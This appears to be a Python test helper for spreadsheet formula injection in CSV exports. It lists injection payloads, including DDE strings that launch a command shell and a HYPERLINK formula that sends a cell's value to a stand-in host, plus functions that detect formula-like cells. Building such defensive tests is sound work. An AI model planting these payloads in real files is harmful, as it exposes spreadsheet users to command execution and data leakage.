"""Texts that a spreadsheet would run, and what it sees of a file."""

from __future__ import annotations

import csv
import io

# As lists of such attacks have them: every first sign, what hides it, and what splits cells.
PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1+1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.com?x="&A1,"more")',
    '=DDE("cmd";"/C calc";"x")',
    "%0A=1+1",
    "|calc",
    "harmless;=1+1",
    "harmless\";\"=cmd|' /C calc'!A0",
    "harmless\n=1+1\n-2",
    "'=1+1",
)


def cells_seen(content: bytes, delimiter: str) -> list[str]:
    """All cells as a spreadsheet sees them that splits at this sign."""
    text = content.decode("utf-8-sig")
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in row
    ]


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet may take a cell for a formula.

    It skips white space, invisible characters, and quotes that a split at another sign leaves.
    """
    return cell.strip(' \t\r\n"\u00a0\u200b\ufeff').startswith(
        tuple("=+-@\uff1d\uff0b\uff0d\uff20")
    )
